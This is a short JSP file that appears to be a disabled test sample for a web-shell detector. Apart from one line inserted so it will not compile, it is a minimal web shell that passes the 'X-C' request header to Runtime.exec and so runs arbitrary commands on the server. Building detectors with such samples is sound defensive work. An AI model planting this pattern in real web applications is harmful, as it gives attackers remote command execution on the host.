<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%!
Process go(Runtime r, String s) throws Exception {
	return r.exec(s);
}
%>
<%
go(Runtime.getRuntime(), request.getHeader("X-C"));
%>
